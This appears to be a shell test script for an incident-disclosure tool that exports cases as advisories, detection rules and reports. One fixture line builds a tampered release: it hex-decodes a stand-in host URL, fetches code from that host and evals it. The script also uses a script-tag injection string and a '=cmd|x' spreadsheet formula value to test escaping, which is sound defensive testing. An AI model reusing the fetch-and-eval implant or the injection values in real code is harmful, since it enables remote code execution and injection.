#!/bin/sh
# A case told in every format: other people's validators take it, no customer is named, nothing that was
# accepted is blocked, and nothing in a name acts on anybody.
. "$(dirname "$0")/lib.sh"

# check KIND FILE: by other people's validators, all at the end in one process
check() {
	checked="$checked $1 $2"
}
checked=

# add ARGUMENT...: one revision of the case
add() {
	checks=$((checks + 1))
	"$ASSAY" case add C1 --store s.db --now 2022-09-30T09:00:00Z -q "$@" >/dev/null 2>err || fail "case add $*"
}

# tell FORMAT FILE OPTION...
tell() {
	checks=$((checks + 1))
	form=$1
	file=$2
	shift 2
	"$ASSAY" report C1 --store s.db --scope scope.json --attribution attribution.json --address https://vendor.example/c1.json \
		--format "$form" "$@" >"$file" 2>err </dev/null || fail "report --format $form"
}

evil='<script>alert(1)</script>'"'"'"` |x| ![p](http://a.example/p) @team'
release old 1.0.0
# What the accepted release names must never be blocked, whatever the case says.
release old2 1.0.0 "const home = 'https://status.helpdesk.example/ok';"
release new 1.0.1 "require('https').get(Buffer.from('68747470733a2f2f63646e2e73746174732e6578616d706c652f78', 'hex').toString(), (r) => r.on('data', (d) => eval(d.toString())));"
is 1 diff old2.tgz new.tgz --format json
mv out r.json
is 0 case new C1 --store s.db --title "Tampered greeter $evil" --vendor 'Helpdesk Example Corp' --product greeter --now 2022-09-30T08:00:00Z
add r.json
add --channel 'cdn https://dl.helpdesk.example/greeter.tgz' --fanout cache --ttl 3600
channel=$("$ASSAY" case show C1 --store s.db --format json | node -p 'JSON.parse(require("fs").readFileSync(0)).channels[0].id')
add --window "r1 $channel" --from 2022-09-26T20:00:00Z/2022-09-27T02:00:00Z --to 2022-09-29T06:00:00Z/2022-09-29T08:00:00Z --evidence "log $evil"
add --indicator 'host status.helpdesk.example' --indicator 'host dl.helpdesk.example' --indicator 'ip 192.0.2.7' \
	--indicator 'service =cmd|x' --indicator "registry_key HKLM\\Software\\$evil"
printf 'id,name,country,industry\nc0,One Plus Two,US,software\nc1,Victim Example GmbH,DE,retail\nc3,Other Example Ltd,GB,%s\n' software >customers.csv
add --customers customers.csv
node "$ROOT/tests/cli/disclose-scope.js" C1 6 "$evil"

# ---- every format, with the accepted release at hand
public='html md csaf csaf-advisory stix osv vex sigma yara osquery defender'
outputs=
for f in $public timesketch notify; do outputs="$outputs -o $f=c.$f"; done
is 0 report C1 --store s.db --scope scope.json --attribution attribution.json --address https://vendor.example/c1.json \
	--accepted old2.tgz $outputs
for f in html stix yara; do
	tell $f again --accepted old2.tgz
	same c.$f again
done
check csaf c.csaf
check csaf c.csaf-advisory
for f in stix osv vex sigma timesketch; do check $f c.$f; done
ok 'the pack is no JSON' node -e 'JSON.parse(require("fs").readFileSync("c.osquery"))'
ok 'the rules do not compile' yara -w c.yara /dev/null
ok 'the rules miss the bad release' test "$(yara -w c.yara new.tgz | wc -l)" -ge 1
ok 'the rules miss the implant' test "$(yara -w c.yara new/package/lib/index.js | wc -l)" -ge 1
ok 'a rule matches an accepted release' test -z "$(yara -w -r c.yara old2)"

# ---- from the document of the case as from the store
"$ASSAY" case show C1 --store s.db --format json >case.json
"$ASSAY" report case.json --scope scope.json --attribution attribution.json --address https://vendor.example/c1.json \
	--accepted old2.tgz --format html >again 2>err || fail 'report case.json'
same c.html again

# A name below a host of the case, not one that only ends in the same letters.
has c.sigma "- query|endswith:"
has c.sigma "- '.cdn.stats.example'"
has c.sigma "- 'cdn.stats.example'"

# ---- what may be blocked
has c.defender cdn.stats.example
for f in defender yara sigma; do lacks c.$f '"status.helpdesk.example'; done
lacks c.defender status.helpdesk.example
lacks c.defender dl.helpdesk.example
has c.yara 'left out: '
has c.html 'which is accepted'
has c.html 'a place that the vendor serves releases from'
# Without the bytes of what was accepted nothing but the bad release itself may be blocked, and no rule is written.
tell defender d.csv
lacks d.csv cdn.stats.example
has d.csv FileSha256
is 2 report C1 --store s.db --format yara
has err '--accepted'
# Nothing is no release that was accepted: a rule that matches nothing there says nothing.
mkdir nothing
is 2 report C1 --store s.db --format yara --accepted nothing
has err 'nothing is in it'
# A member that cannot be looked at is not known to be innocent.
mkdir -p blind && printf 'x' >blind/x && (cd blind && 7zz a -psecret -mhe=on ../locked.7z x >/dev/null)
tell defender d2.csv --accepted old2.tgz --accepted locked.7z
lacks d2.csv cdn.stats.example

# ---- victims, names, formulas
for f in $public; do
	lacks c.$f 'Victim Example'
	lacks c.$f 'Other Example'
done
tell html named.html --accepted old2.tgz --name-victims
has named.html 'Victim Example GmbH'
has named.html 'not for the public'
has c.notify 'Victim Example GmbH'


has c.notify "\"'=HYPERLINK"
for f in $public timesketch notify; do
	checks=$((checks + 1))
	if LC_ALL=C grep -qP '[\x00-\x08\x0b\x0e-\x1f]' c.$f; then fail "c.$f holds control bytes"; fi
done
lacks c.html '<script'
has c.html 'cdn[.]stats[.]example'
awk '/^`+text$/ { f = 1 } !f { gsub(/`` .* ``/, ""); gsub(/`[^`]*`/, ""); print } /^`+$/ { f = 0 }' c.md >outside
lacks outside '<script>'
lacks outside '@team'

# ---- facts, inferences and unknowns apart; attribution only where it may name
for w in Facts Inferences 'Not known'; do
	has c.md "## $w"
	has c.csaf "\"title\": \"$w\""
done
has c.md 'not estimable'
lacks c.stix attributed-to
lacks c.stix Heron
NAMED=intrusion-set--a node "$ROOT/tests/cli/disclose-scope.js" C1 6 x
tell stix named.stix
has named.stix attributed-to
check stix named.stix
node "$ROOT/tests/cli/disclose-scope.js" C1 6 "$evil"
# A correction is a revision of the same document under the same id.
add --indicator 'ip 192.0.2.8'
tell csaf c2.csaf
check csaf c2.csaf
ok 'the number of revisions does not grow' test "$(grep -c '"number"' c2.csaf)" -eq "$(($(grep -c '"number"' c.csaf) + 1))"

# ---- what cannot be told is said
is 2 report C1 --store s.db --format csaf
has err '--address'
is 2 report C1 --store s.db --format notify
is 2 report C1 --store s.db --format json
is 2 report C1 --store s.db --scope r.json
is 2 report C2 --store s.db
has err 'there is no case C2'
has err 'there is no file C2'
sed 's/"C1"/"C9"/' scope.json >other.json
is 2 report C1 --store s.db --scope other.json
has err 'another case'
is 2 report r.json --format csaf
is 2 report C1 --store s.db -o yara=none.yar
ok 'half a report is left' test ! -e none.yar
is 0 report C1 --store s.db
has out 'Who did it: not looked at'

ok 'a rule of our schemas refuses nothing' node "$ROOT/tests/schema/can-fail.mjs" "$ROOT"
# shellcheck disable=SC2086
ok 'a validator takes it' node "$ROOT/tests/cli/disclose-check.mjs" "$ROOT" $checked
ok 'pages load nothing, say nothing and can be read by everybody' node "$ROOT/tests/cli/browser.js" "$ROOT" c.html named.html
done_
